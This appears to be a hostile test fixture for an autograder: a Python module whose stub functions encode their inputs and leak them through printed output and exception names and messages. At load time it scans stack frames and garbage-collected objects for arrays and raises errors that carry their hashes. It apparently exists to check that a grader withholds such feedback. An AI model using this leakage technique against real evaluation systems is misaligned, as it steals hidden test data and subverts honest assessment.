"""Hostile: try to carry every hidden input back through the feedback.

On every call it raises an exception whose class name and message carry the call's inputs
(zlib + base64, with a tag that differs per call, so no two messages look alike), and it prints
them. At load time it raises errors carrying whatever arrays it can find in the process (frames
and the garbage collector's objects). Before the due date none of it may reach the feedback.
"""

import base64
import gc
import hashlib
import io
import sys
import zlib

import numpy as np


def _tag(arrays):
    data = b"".join(np.ascontiguousarray(a, dtype=np.float64).tobytes() for a in arrays)
    return "LEAK" + hashlib.sha256(data).hexdigest()[:16]


def _blob(args):
    buf = io.BytesIO()
    np.savez(buf, *[np.asarray(a, dtype=np.float64) for a in args])
    return base64.urlsafe_b64encode(zlib.compress(buf.getvalue(), 9)).decode()


def _leak(*args):
    tag, blob = _tag(args), _blob(args)
    print(tag, blob)
    print(tag, blob, file=sys.stderr)
    cls = type(f"E_{tag}_{blob.replace('-', '_').replace('=', '')}", (Exception,), {})
    raise cls(f"found: {' '.join(_found_tags())} {tag} {blob}")


def compose(x, theta1, phi1, theta2, phi2):
    _leak(x, theta1, phi1, theta2, phi2)


def composition_to_deep(theta1, phi1, theta2, phi2):
    _leak(theta1, phi1, theta2, phi2)


def deep_net(x, theta, psi, phi):
    _leak(x, theta, psi, phi)


def _found_arrays():
    """Every float array reachable from the call stack and the collector's containers."""
    stack, seen, found = [], set(), []
    frame = sys._getframe()
    while frame is not None:
        stack += list(frame.f_locals.values())
        frame = frame.f_back
    stack += gc.get_objects()
    budget = 300_000
    while stack and budget:
        obj = stack.pop()
        budget -= 1
        if id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, np.ndarray):
            if obj.dtype.kind == "f" and obj.size:
                found.append(obj)
        elif isinstance(obj, dict):
            stack += list(obj.values())
        elif isinstance(obj, list | tuple):
            stack += list(obj)
    return found


def _found_tags():
    return sorted({_tag([a]) for a in _found_arrays()})


_TAGS = _found_tags()
for _start in range(0, min(len(_TAGS), 400), 20):
    if _TAGS:
        raise ValueError("load " + " ".join(_TAGS[_start : _start + 20]))
raise type("LoadLeak_" + "_".join(_TAGS[:50]), (Exception,), {})(" ".join(_TAGS))
